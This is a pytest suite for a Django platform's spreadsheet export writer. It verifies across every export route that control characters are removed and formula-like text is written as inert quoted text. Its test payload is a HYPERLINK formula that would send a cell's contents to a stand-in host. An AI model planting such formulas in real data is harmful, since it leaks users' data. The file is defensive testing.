"""The one export writer: control characters never break a file, formulas never run.

Every export in the product is found from the code (any view calling the writer) and reached
through the URL conf and the API; each has a case below that stores a record carrying a control
character and a formula, downloads the export and reads the cell back.
"""

from __future__ import annotations

import ast
import inspect
import io
import zipfile
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone
from openpyxl import load_workbook

from shegong.core.exports import safe_cell, unquote_text, workbook_bytes

SRC = Path(__file__).resolve().parents[2] / "src" / "shegong"
WRITERS = {"excel_response", "workbook_bytes"}

FORMULA = '=HYPERLINK("http://x.invalid/?"&B2,"点")'
PAYLOAD = FORMULA + "\x07"  # a bell: IllegalCharacterError before
INERT = "'" + FORMULA


def _book(content: bytes):
    return load_workbook(io.BytesIO(content))


def _cells(content: bytes):
    return [cell for row in _book(content).active.iter_rows() for cell in row]


# ---- the writer --------------------------------------------------------------------------------


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r", "＝"])
def test_text_starting_like_a_formula_is_stored_as_quoted_text(prefix):
    content, _n = workbook_bytes(title="t", headers=["h"], rows=[[prefix + "SUM(1,2)"]])
    cell = _book(content).active["A2"]
    assert cell.data_type == "s"
    # (XML reads a stored CR back as LF)
    assert cell.value == "'" + prefix.replace("\r", "\n") + "SUM(1,2)"
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")


def test_control_characters_are_removed_and_the_file_opens():
    content, _n = workbook_bytes(
        title="名单\x00", headers=["姓名\x01"], rows=[["张\x00三\x1f", "a\tb\nc", "\ufffe李四"]]
    )
    sheet = _book(content).active
    assert sheet.title == "名单"
    assert [c.value for c in sheet[1]] == ["姓名", None, None]
    assert [c.value for c in sheet[2]] == ["张三", "a\tb\nc", "李四"]


def test_numbers_dates_and_booleans_stay_typed():
    aware = datetime(2026, 3, 1, 1, 30, tzinfo=UTC)  # 09:30 in 北京时间
    row = [3, 2.5, Decimal("7.25"), -4, date(2026, 3, 1), aware, True, None, timedelta(hours=2)]
    content, _n = workbook_bytes(title="t", headers=["h"] * len(row), rows=[row])
    values = [c.value for c in _book(content).active[2]]
    assert values[:4] == [3, 2.5, 7.25, -4]
    assert values[4] == datetime(2026, 3, 1)
    assert values[5] == datetime(2026, 3, 1, 9, 30)
    assert values[6] is True and values[7] is None
    assert values[8] == timedelta(hours=2)


def test_error_words_stay_text_and_lazy_strings_are_written():
    from django.utils.translation import gettext_lazy

    content, _n = workbook_bytes(title="t", headers=["h"], rows=[["#N/A", gettext_lazy("是")]])
    a, b = _book(content).active[2]
    assert (a.data_type, a.value) == ("s", "#N/A")
    assert b.value == "是"


def test_a_quoted_export_imports_back_to_what_was_stored():
    assert unquote_text(safe_cell(FORMULA)) == FORMULA
    assert unquote_text("'普通文字") == "'普通文字"


# ---- every export of the product ---------------------------------------------------------------


def _writer_calls() -> set[str]:
    """`module.function` of every function in the source that calls the export writer."""
    found = set()
    for path in SRC.rglob("*.py"):
        if "migrations" in path.parts or path.name == "exports.py":
            continue
        module = ".".join(("shegong", *path.relative_to(SRC).with_suffix("").parts))
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if not isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef):
                continue
            for call in ast.walk(node):
                if isinstance(call, ast.Call):
                    f = call.func
                    name = f.id if isinstance(f, ast.Name) else getattr(f, "attr", "")
                    if name in WRITERS:
                        found.add(f"{module}.{node.name}")
    return found


def _url_views():
    def walk(resolver, namespaces=()):
        for p in resolver.url_patterns:
            if isinstance(p, URLResolver):
                ns = (*namespaces, p.namespace) if p.namespace else namespaces
                yield from walk(p, ns)
            elif isinstance(p, URLPattern):
                view = inspect.unwrap(getattr(p.callback, "func", p.callback))
                yield ":".join((*namespaces, p.name or "")), view

    yield from walk(get_resolver())


def _api_views():
    from shegong.api import api

    for _prefix, router in api._routers:
        for path, path_view in router.path_operations.items():
            for operation in path_view.operations:
                yield f"api:{path}", inspect.unwrap(operation.view_func)


def exports_in_the_product() -> dict[str, str]:
    """{route name: view} for every route whose view writes a spreadsheet."""
    calls = _writer_calls()
    routes = {}
    for name, view in [*_url_views(), *_api_views()]:
        qualified = f"{getattr(view, '__module__', '')}.{getattr(view, '__name__', '')}"
        if qualified in calls:
            routes[name] = qualified
    return routes


# Spreadsheets written by the background worker, not by a route, and where they are served.
GENERATED = {
    # the departments' monthly reports: stored, then downloaded (audited, scoped) from
    # indicators:report_download; tests/indicators/test_reports.py opens one
    "shegong.indicators.services.reports.report_xlsx",
}


def test_every_writer_call_is_an_export_route_with_a_case_below():
    routes = exports_in_the_product()
    assert set(routes.values()) == _writer_calls() - GENERATED, (
        "a spreadsheet is written outside any route"
    )
    assert set(routes) == {name for name, *_ in CASES}


def test_nothing_else_writes_spreadsheets_or_csv():
    """Only core.exports builds workbooks or CSV; core.imports/core.xlsx only read."""
    allowed = {"core/exports.py", "core/imports.py", "core/xlsx.py"}
    offenders = []
    for path in SRC.rglob("*.py"):
        rel = path.relative_to(SRC).as_posix()
        if rel in allowed or "migrations" in path.parts:
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.Import | ast.ImportFrom):
                names = [a.name for a in node.names] + [getattr(node, "module", None) or ""]
                if any(n and n.split(".")[0] in ("openpyxl", "xlsxwriter") for n in names):
                    offenders.append(f"{rel}:{node.lineno}")
            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter"):
                if isinstance(node.value, ast.Name) and node.value.id == "csv":
                    offenders.append(f"{rel}:{node.lineno}")
    assert offenders == []


# Each case: (route name, seed(user) -> url, needs), the record seeded through a service and the
# payload then written straight to the row (as data imported or typed before validation was
# tightened would be).


def _people(user):
    from shegong.people import services
    from shegong.people.models import Resident
    from shegong.people.synthetic import make_id_number
    from shegong.regions.models import Region

    r = services.resident_create(
        acting_user=user,
        name="待改名",
        id_number=make_id_number("440106", date(1950, 1, 2), 7, "F"),
        region=Region.objects.get(code="440106001001"),
        confirm_duplicates=True,
    )
    Resident.objects.filter(pk=r.pk).update(name=PAYLOAD, address="-1+1\x0b号")
    return reverse("people:export")


def _orgs(user):
    from tests.factories import OrganisationFactory

    OrganisationFactory(name=PAYLOAD, kind="sw_org", region_id="440106001000")
    return reverse("orgs:export")


def _users(user):
    from tests.factories import MembershipFactory

    m = MembershipFactory(organisation=user.active_membership.organisation)
    type(m.user).objects.filter(pk=m.user.pk).update(full_name=PAYLOAD)
    return reverse("accounts:user_export")


def _petitions(user):
    from shegong.petitions import services
    from shegong.petitions.models import Category, Matter

    matter = services.matter_register(
        acting_user=user,
        kind="complaint",
        channel="visit",
        region_code="440106001000",
        category=Category.objects.get(code="labour.wages"),
        title="待改标题",
        request="请求督促支付拖欠工资",
        petitioners=[{"name": "张建国", "phone": "13800138000"}],
    )
    Matter.objects.filter(pk=matter.pk).update(title=PAYLOAD)
    return reverse("petitions:export")


def _funds(user):
    from shegong.funds import services
    from shegong.funds.models import FundSource
    from shegong.regions.models import Region

    org = user.active_membership.organisation
    services.appropriation_post(
        acting_user=None, organisation=org, source=FundSource.LOCAL, amount=100_000, memo="预算"
    )
    account = services.account_for(organisation=org, source=FundSource.LOCAL)
    services.spend_post(acting_user=user, account=account, amount=20_000, memo="服务")
    Region.objects.filter(code=org.region_id).update(name=PAYLOAD)
    return reverse("funds:report_export")


def _hours(user, by):
    from shegong.volunteers import services
    from shegong.volunteers.models import Team, Volunteer
    from tests.volunteers.helpers import make_activity, make_volunteer

    volunteer = make_volunteer()
    start = timezone.now() - timedelta(hours=2)
    shift = make_activity(user, start=start).shifts.get()
    signup = services.signup_create(shift=shift, volunteer=volunteer)
    services.signup_check_in(signup=signup, acting_user=user, at=start)
    record = services.signup_check_out(
        signup=signup, acting_user=user, at=start + timedelta(minutes=90)
    )
    services.record_confirm(record=record, acting_user=user)
    team = services.team_create(
        acting_user=user, organisation=user.active_membership.organisation, name="队", kind="party"
    )
    services.team_add_member(
        team=team,
        volunteer=volunteer,
        acting_user=user,
        joined_on=start.date() - timedelta(days=1),
    )
    Volunteer.objects.filter(pk=volunteer.pk).update(name=PAYLOAD)
    Team.objects.filter(pk=team.pk).update(name=PAYLOAD)
    today = timezone.localdate()
    first, last = today - timedelta(days=5), today + timedelta(days=1)
    return reverse("volunteers:export_hours", args=[by]) + f"?first={first}&last={last}"


def _audit(user):
    from shegong.core.audit import audit_record

    audit_record(action="export", actor_name=PAYLOAD, region_code="440106000000")
    return reverse("accounts:audit_export")


def _processing_log(user):
    from shegong.core.audit import audit_record
    from shegong.people import services
    from shegong.people.models import Resident
    from shegong.people.synthetic import make_id_number
    from shegong.regions.models import Region

    r = services.resident_create(
        acting_user=user,
        name="待改名",
        id_number=make_id_number("440106", date(1951, 3, 4), 8, "M"),
        region=Region.objects.get(code="440106001001"),
        confirm_duplicates=True,
    )
    Resident.objects.filter(pk=r.pk).update(name=PAYLOAD)
    audit_record(action="reveal", actor_name=PAYLOAD, obj=r)  # an act on the resident
    return reverse("privacy:processing_log_export", args=[r.pk])


def _report_form(user):
    from shegong.reporting import services
    from shegong.reporting.models import DataElement

    form = services.form_create(
        acting_user=user, department=user.active_membership.organisation, name="月报"
    )
    element = services.element_create(acting_user=user, form=form, code="a", label="指标")
    DataElement.objects.filter(pk=element.pk).update(label=PAYLOAD)
    return reverse("reporting:export", args=[form.pk])


def _workers(user):
    from shegong.people.synthetic import make_id_number
    from shegong.workforce import services
    from shegong.workforce.models import WorkerProfile

    worker = services.worker_create(
        acting_user=user,
        id_number=make_id_number("440106", date(1990, 5, 6), 9, "F"),
        employer=user.active_membership.organisation,
        name="待改名",
        education="bachelor",
    )
    WorkerProfile.objects.filter(pk=worker.pk).update(name=PAYLOAD)
    return reverse("workforce:export")


def _staffing(user):
    from shegong.regions.models import Region
    from tests.careers.factories import make_worker
    from tests.factories import OrganisationFactory

    station = OrganisationFactory(
        name="五山街道社工站", kind="sw_station", region_id="440106001000"
    )
    make_worker(station)
    Region.objects.filter(code="440106001000").update(name=PAYLOAD)
    return reverse("careers:staffing_export")


def _party_coverage(user):
    from shegong.regions.models import Region
    from tests.factories import OrganisationFactory

    OrganisationFactory(name="五山街道社工站", kind="sw_station", region_id="440106001000")
    Region.objects.filter(code="440106001000").update(name=PAYLOAD)
    return reverse("party:coverage_export")


def _contact_items(user):
    from shegong.contact import services
    from shegong.contact.models import RaisedItem

    meeting = services.meeting_plan(
        acting_user=user,
        kind="residents",
        title="座谈会",
        held_on=date(2026, 12, 1),
        place="会议室",
    )
    invitation = services.invitation_add(
        meeting=meeting,
        acting_user=user,
        kind="organisation",
        reference=user.active_membership.organisation,
    )
    services.meeting_hold(meeting=meeting, acting_user=user)
    item = services.item_record(meeting=meeting, acting_user=user, raiser=invitation, text="待改写")
    RaisedItem.objects.unscoped(reason="test").filter(pk=item.pk).update(text=PAYLOAD)
    return reverse("contact:export")


def _brands(user):
    from shegong.brands import services
    from shegong.brands.models import Brand

    brand = services.brand_register(
        acting_user=user,
        name="待改写的品牌",
        kind="party",
        owner=user.active_membership.organisation,
        description="说明",
        started_on=date(2024, 1, 1),
    )
    Brand.objects.unscoped(reason="test").filter(pk=brand.pk).update(name=PAYLOAD)
    return reverse("brands:export")


def _practices(user):
    from shegong.practices import services
    from shegong.practices.models import Practice

    practice = services.practice_create(
        acting_user=user, title="做法", topic="elderly", problem="p", actions="a", results="r"
    )
    Practice.objects.unscoped(reason="test").filter(pk=practice.pk).update(results=PAYLOAD)
    return reverse("practices:export")


def _suggestions(user):
    from shegong.suggestions import services
    from shegong.suggestions.models import Suggestion

    s = services.suggestion_submit(region_code="440106001000", text="待改写的意见建议")
    Suggestion.objects.unscoped(reason="test").filter(pk=s.pk).update(text=PAYLOAD)
    return reverse("suggestions:export")


def _pivot(user):
    from shegong.regions.models import Region

    Region.objects.filter(code="440106001000").update(name=PAYLOAD)
    return (
        reverse("indicators:pivot_export")
        + "?indicator=satisfaction_rate&indicator=repeat_petition_rate&region=440106000000"
    )


# Routes whose export is for another role than the county's staff.
ROLE_OF = {
    "accounts:audit_export": "security_auditor",
    "privacy:processing_log_export": "dept_leader",
}


def _sweep(user):
    from django.utils import timezone

    from shegong.emergency import services
    from shegong.emergency.models import SweepTask
    from shegong.people import services as people
    from shegong.people.models import Category
    from shegong.people.synthetic import make_id_number
    from shegong.regions.models import Region

    alone = Category.objects.get(code="living_alone")
    resident = people.resident_create(
        acting_user=user,
        name="独居老人",
        id_number=make_id_number("440106", date(1940, 1, 1), 7, "F"),
        region=Region.objects.get(code="440106001001"),
        categories=[alone],
        confirm_duplicates=True,
    )
    event = services.event_declare(
        acting_user=user,
        kind="typhoon",
        title="台风排查",
        areas=[Region.objects.get(code="440106001001")],
        categories=[alone],
        starts_at=timezone.now(),
    )
    task = SweepTask.objects.unscoped(reason="test").get(event=event, resident=resident)
    services.outcome_record(task=task, acting_user=user, outcome="not_reached", reason="待改写")
    SweepTask.objects.unscoped(reason="test").filter(pk=task.pk).update(reason=PAYLOAD)
    return reverse("emergency:export", args=[event.pk]) + "?outcome=all"


CASES = [
    ("people:export", _people),
    ("accounts:audit_export", _audit),
    ("privacy:processing_log_export", _processing_log),
    ("orgs:export", _orgs),
    ("accounts:user_export", _users),
    ("petitions:export", _petitions),
    ("funds:report_export", _funds),
    ("volunteers:export_hours", _hours),
    ("reporting:export", _report_form),
    ("workforce:export", _workers),
    ("careers:staffing_export", _staffing),
    ("party:coverage_export", _party_coverage),
    ("contact:export", _contact_items),
    ("emergency:export", _sweep),
    ("brands:export", _brands),
    ("practices:export", _practices),
    ("suggestions:export", _suggestions),
    ("indicators:pivot_export", _pivot),
]


def _urls_of(seed, user):
    if seed is _hours:
        return [_hours(user, "volunteer"), _hours(user, "team")]
    return [seed(user)]


@pytest.mark.django_db
@pytest.mark.parametrize("name,seed", CASES, ids=[c[0] for c in CASES])
def test_each_export_writes_a_control_character_and_a_formula_as_inert_text(
    name, seed, county_user, login, make_member
):
    user = county_user
    if name in ROLE_OF:
        user = make_member(ROLE_OF[name], "440106000000", name="天河区委社会工作部")
    client = login(user)
    for url in _urls_of(seed, user):
        response = client.get(url)
        assert response.status_code == 200, url
        cells = _cells(response.content)
        carrying = [c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
        assert carrying, f"{url}: the seeded record is not in the export"
        for cell in carrying:
            assert (cell.data_type, cell.value) == ("s", INERT), url
        assert not [c for c in cells if c.data_type == "f"], url
        sheet = zipfile.ZipFile(io.BytesIO(response.content)).read("xl/worksheets/sheet1.xml")
        assert b"<f>" not in sheet and b"\x07" not in sheet


@pytest.mark.django_db
def test_an_anonymous_open311_description_no_longer_breaks_the_county_export(
    client, county_user, login
):
    """The finding as reported: anyone posts a description with a control character and a
    formula; the county's export of matters was a 500 (and would have carried the formula)."""
    from django.core.cache import cache

    cache.clear()
    posted = client.post(
        "/open311/v2/requests.json",
        {
            "service_code": "labour.wages",
            "address_id": "440106001000",
            "description": "\x01" + FORMULA,
            "phone": "13812345678",
        },
    )
    assert posted.status_code == 200, posted.content
    response = login(county_user).get(reverse("petitions:export"))
    assert response.status_code == 200
    titles = [c for c in _cells(response.content) if c.column == 6 and c.row > 1]
    # the control character is refused at entry now; the formula is stored as sent, exported inert
    assert [(c.data_type, c.value) for c in titles] == [("s", "'" + FORMULA[:30])]
